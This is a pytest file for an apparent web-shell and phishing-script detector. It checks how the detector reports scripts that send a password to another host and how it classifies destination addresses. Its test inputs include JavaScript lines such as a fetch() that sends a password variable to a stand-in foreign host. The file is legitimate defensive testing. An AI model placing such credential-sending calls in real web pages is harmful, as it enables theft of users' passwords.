"""Places that send a password somewhere."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import TAKEN, analysed
from webshellhunt.analysis.browser.sent import MOST_SENT
from webshellhunt.client_scripts.exfiltration import Destination, judge_address


def test_no_more_exfiltrations_are_listed_than_the_bound() -> None:
    assert len(analysed(TAKEN + 'fetch("//a.example", p);' * (MOST_SENT + 5)).exfiltrations) == MOST_SENT


def test_a_leak_has_its_path_in_words() -> None:
    (leak,) = analysed(TAKEN + 'fetch("//a.example", p);').exfiltrations
    assert leak.words.split(" → ")[1:] == ["p", "fetch"]
    assert not leak.logs_keys


@pytest.mark.parametrize(
    ("text", "destination"),
    [
        ("https://a.example/x", Destination.FOREIGN),
        ("//a.example", Destination.FOREIGN),
        ("wss://a.example", Destination.FOREIGN),
        ("https://\0.a.example/", Destination.FOREIGN),
        ("https://\0/x", Destination.FOREIGN),
        ("https://\1/x", Destination.OWN),
        ("//\0/x", Destination.OWN),
        ("http://localhost:8080/x", Destination.OWN),
        ("/owa/auth.owa", Destination.OWN),
        ("\0/login?r=x.png", Destination.OWN),
        ("", Destination.OWN),
        ("/a/x.png?\0", Destination.SENT),
        ("../themes/base.css", Destination.SENT),
        ("https://\1/x.gif?\0", Destination.SENT),
    ],
)
def test_an_address_is_judged_by_its_constants(text: str, destination: Destination) -> None:
    assert judge_address(text).destination is destination
